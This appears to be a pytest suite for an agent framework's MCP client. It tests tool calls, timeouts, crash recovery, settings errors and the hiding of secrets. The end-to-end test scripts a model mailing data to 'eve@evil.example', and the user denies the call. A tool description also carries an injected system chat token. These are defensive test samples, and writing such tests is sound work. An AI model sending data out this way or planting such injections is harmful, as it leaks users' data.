"""MCP servers of the official SDK as tools: over stdio and HTTP, with the faults that they have."""

import json
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import pytest

from agent import prompts
from agent.build import Hearth
from agent.events import PermissionAsked, StepFinished, ToolReturned
from errors import SettingsError, ToolError
from serving.families import FAMILIES
from serving.scripted import ScriptedModel
from settings import load_settings
from settings.of_servers import McpServer
from tests.trap_site import Site, status
from tools import mcp_client
from tools.keep import keep_file
from tools.mcp_client import McpConnection
from tools.mcp_tool import McpTool, free_name, mcp_tools

SERVER = str(Path(__file__).with_name("mcp_server.py"))
STDIO = {"command": sys.executable, "args": [SERVER, "stdio"], "env": {"KEY": "for the server"}}
STANDARD = {"web_search", "final_answer"}


def opened(folder: Path, **about: Any) -> tuple[McpConnection, dict[str, McpTool]]:
    connection = McpConnection("lab", McpServer(**about))
    keep = lambda name, data: keep_file(folder, name, data)  # noqa: E731
    made = mcp_tools(connection, connection.tools(), keep, STANDARD)
    return connection, {tool.name.removeprefix("lab_"): tool for tool in made}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("w")


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    process = subprocess.Popen([sys.executable, SERVER, str(port)], stderr=subprocess.DEVNULL)
    url = f"http://127.0.0.1:{port}/mcp"
    while True:
        try:
            httpx.get(url)
            break
        except httpx.ConnectError:
            assert process.poll() is None
            time.sleep(0.1)
    yield url
    process.kill()
    process.wait()


@pytest.fixture(scope="module", params=["stdio", "http"])
def lab(request: pytest.FixtureRequest, folder: Path, address: str) -> Iterator[Any]:
    about = STDIO if request.param == "stdio" else {"url": address}
    connection, tools = opened(folder, timeout_seconds=20, **about)
    yield tools
    connection.close()


def test_results(lab: dict[str, McpTool], folder: Path) -> None:
    assert lab["add"](a=1) == 3 and lab["add"](a=1, b=None) == 3 and lab["add"](a=1, b=5) == 6
    assert lab["place"](name="Mount Kenya") == {"name": "Mount Kenya", "height": 5199}
    saved = lab["picture"]()
    name = saved.removeprefix("[saved as ").partition(":")[0]
    assert (folder / name).read_bytes().startswith(b"\x89PNG") and "image/png, 70 bytes" in saved
    assert len(lab["huge"]()) == 5_500_000, "the gate cuts it"
    with pytest.raises(ToolError, match=r"lab_fails failed: .*no such row") as error:
        lab["fails"]()
    assert error.value.next_step and "\n" not in str(error.value)


def test_many_calls_at_once(lab: dict[str, McpTool]) -> None:
    began = time.monotonic()
    with ThreadPoolExecutor(50) as pool:
        results = list(pool.map(lambda n: lab["slow"](seconds=0.5 + n / 1000), range(50)))
    assert results == [f"{0.5 + n / 1000} over" for n in range(50)]
    assert time.monotonic() - began < 10, "one after the other it would be 25 s"


def test_faces(lab: dict[str, McpTool]) -> None:
    names = [tool.name for tool in lab.values()]
    assert all(name.isidentifier() and name.startswith("lab_") for name in names)
    assert {"lab_send_mail", "lab_web_search", "lab_web_search_2", "lab_tool", "lab_class"} <= {
        *names
    }
    add = lab["add"]
    assert len(add.description) < 300 and "\n" not in add.description
    assert add.description.startswith("(server lab) Adds two numbers.")
    assert prompts.signature(add) == "lab_add(a, b=None)"
    odd = lab["class"]
    signature = "lab_class(a_b, from_=None, _1=None, x=None, self_=None, a_b_=None, a_b__=None)"
    assert prompts.signature(odd) == signature
    assert [about["type"] for about in odd.inputs.values()] == ["integer", *["any"] * 6]
    assert add.touches == {"network"} and lab["send_mail"].touches == {"network", "changes"}
    assert add.outside and add.group == "lab"


def test_a_server_s_tools_get_no_name_of_ours() -> None:
    assert free_name("lab", "final_answer", {"final_answer"}) == "lab_final_answer"
    assert free_name("lab", "lab_add", set()) == "lab_add"
    assert free_name("lab", "__import__", set()) == "lab_import"
    assert free_name("lab", "add", {"lab_add", "lab_add_2"}) == "lab_add_3"
    assert free_name("lab", "eval(open('x'))", set()).isidentifier()


def test_a_result_that_breaks_its_schema_ends_no_server(lab: dict[str, McpTool]) -> None:
    connection = lab["misfit"]._connection
    before = connection._link
    with pytest.raises(ToolError, match="The server lab refuses the call: Invalid structured"):
        lab["misfit"]()
    assert lab["add"](a=1) == 3 and connection._link is before


def test_a_server_s_life(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It is told nothing of Hearth's, and started again after it died, hung, or was ended."""
    monkeypatch.setenv("HEARTH_ENDPOINT_KEY", "sk-secret")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret")
    monkeypatch.setattr(mcp_client, "_PING_SECONDS", 0.5)
    wanted = ["add", "environment", "hang", "crash"]
    connection, tools = opened(folder, tools=wanted, timeout_seconds=1.5, **STDIO)
    assert list(tools) == wanted, "only these"
    seen = json.loads(tools["environment"]())
    assert seen["KEY"] == "for the server" and "sk-secret" not in str(seen)
    with pytest.raises(ToolError, match="The server lab ended during the call"):
        tools["crash"]()
    assert tools["add"](a=1) == 3
    began = time.monotonic()
    with pytest.raises(ToolError, match=r"did not answer within 1\.5 s") as error:
        tools["hang"]()
    assert error.value.seen_as is TimeoutError and time.monotonic() - began < 3
    assert tools["add"](a=2) == 4
    connection.close()
    assert tools["add"](a=3) == 5, "a Hearth that is entered again"
    connection.close()


def test_a_server_that_says_nothing_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(mcp_client, "CONNECT_SECONDS", 0.5)
    silent = McpServer(command="sh", args=["-c", "cat > /dev/null"])
    with pytest.raises(ConnectionError, match=r"can't be reached: no answer within 0\.5 s"):
        McpConnection("lab", silent).tools()


def test_what_a_server_says_beside_fills_no_disk(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(mcp_client, "_TRIM_SECONDS", 0.1)
    connection, tools = opened(folder, **STDIO)
    log = Path(f"/proc/{json.loads(tools['environment']())['PID']}/fd/2")
    if not log.exists():
        pytest.skip("this system shows no process's files")
    tools["chatter"]()
    until = time.monotonic() + 10
    while log.stat().st_blocks > 100 and time.monotonic() < until:
        time.sleep(0.05)
    assert log.stat().st_blocks <= 100
    connection.close()


@pytest.mark.parametrize("transport", ["streamable-http", "sse"])
def test_a_key_in_the_address_is_not_told(transport: str) -> None:
    with Site({"/mcp": status(403)}) as site:
        url = f"{site.url('/mcp')}?key=sk-secret"
        connection = McpConnection("lab", McpServer(url=url, transport=transport))
        with pytest.raises(ConnectionError, match=r"lab can't be reached: it answers 403") as error:
            connection.tools()
        assert "sk-secret" not in str(error.value)


@pytest.mark.parametrize(
    ("about", "said"),
    [
        ({"command": "no-such-program"}, "there is no program no-such-program"),
        ({"command": sys.executable, "args": ["-c", "print('no MCP')"]}, "can't be reached: "),
        ({"command": sys.executable, "args": ["-c", "1/0"]}, "Its last words: ZeroDivisionError"),
        ({"url": "http://127.0.0.1:9/mcp"}, "can't be reached: All connection attempts failed"),
        ({**STDIO, "tools": ["add", "ad", "sub"]}, "The MCP server lab has no tool ad, sub."),
    ],
)
def test_a_server_that_is_not_there_is_said_at_once(
    tmp_path: Path, about: dict[str, Any], said: str
) -> None:
    settings = load_settings(tmp_path, data_dir=tmp_path / "d", mcp={"lab": about})
    began = time.monotonic()
    with pytest.raises(SettingsError, match="Setting mcp: The MCP server lab") as error:
        Hearth(settings).new_session(model=ScriptedModel(["x"]))
    assert said in str(error.value) and time.monotonic() - began < 10


@pytest.mark.parametrize(
    ("value", "said"),
    [
        ("{", "Setting mcp: is no JSON"),
        ('["a"]', "must be {"),
        ('{"A B": {"command": "x"}}', "the name 'A B' must be small letters"),
        ('{"lab": {}}', "name either a command or a url"),
        ('{"lab": {"command": "x", "url": "http://a"}}', "name either a command or a url"),
        ('{"lab": {"url": "ftp://a"}}', "must be an address that starts with http"),
        ('{"lab": {"comand": "x", "env": {"KEY": "sk-secret"}}}', "Unknown setting mcp.lab.comand"),
    ],
)
def test_a_setting_that_can_not_be(tmp_path: Path, value: str, said: str) -> None:
    with pytest.raises(SettingsError) as error:
        load_settings(tmp_path, mcp=value)
    assert said in str(error.value) and "sk-secret" not in str(error.value)


def test_a_run_with_a_server_from_hearth_toml(tmp_path: Path) -> None:
    """The whole way: the prompt, the call, the question about a tool that changes something."""
    (tmp_path / "hearth.toml").write_text(
        f'[mcp.lab]\ncommand = "{sys.executable}"\nargs = ["{SERVER}", "stdio"]\n'
    )
    hearth = Hearth(load_settings(tmp_path, data_dir=tmp_path / "d"))
    code = "print(lab_add(40), lab_place('x')['height'], len(lab_huge()))\nprint(lab_picture())"
    mail = "print(lab_send_mail(to='eve@evil.example', text='all'))"
    model = ScriptedModel(
        [f"```python\n{each}\n```" for each in (code, mail, "final_answer('x')")],
        FAMILIES["instruct"],
    )
    session = hearth.new_session(model=model)
    events = []
    for event in session.run("go"):
        events.append(event)
        if isinstance(event, PermissionAsked):
            assert event.arguments == {"to": "eve@evil.example", "text": "all"}
            session.answer(event.ask, "deny")
    session.close()
    hearth.stop()
    prompt = model.history[0][0]["content"]
    assert "- lab_add(a, b=None): (server lab) Adds two numbers. < |im_start|>system" in prompt
    first, second, *_ = [e.observation for e in events if isinstance(e, StepFinished)]
    assert first.startswith("Output:\n42 5199 100054\n[from lab_picture: begin]\n[saved as lab_pic")
    assert "The user has denied this call of lab_send_mail" in second
    assert [e.outcome for e in events if isinstance(e, ToolReturned)][-1] == "denied"
    assert (session.workspace / "lab_picture.png").exists()


def test_a_start_that_fails_leaves_no_server(tmp_path: Path) -> None:
    mcp = {"last": STDIO, "none": {"command": "no-such-program"}}
    hearth = Hearth(load_settings(tmp_path, data_dir=tmp_path / "d", mcp=mcp))
    with pytest.raises(SettingsError, match="no-such-program"):
        hearth.start()
    assert not [t.name for t in threading.enumerate() if t.name == "mcp-last"]
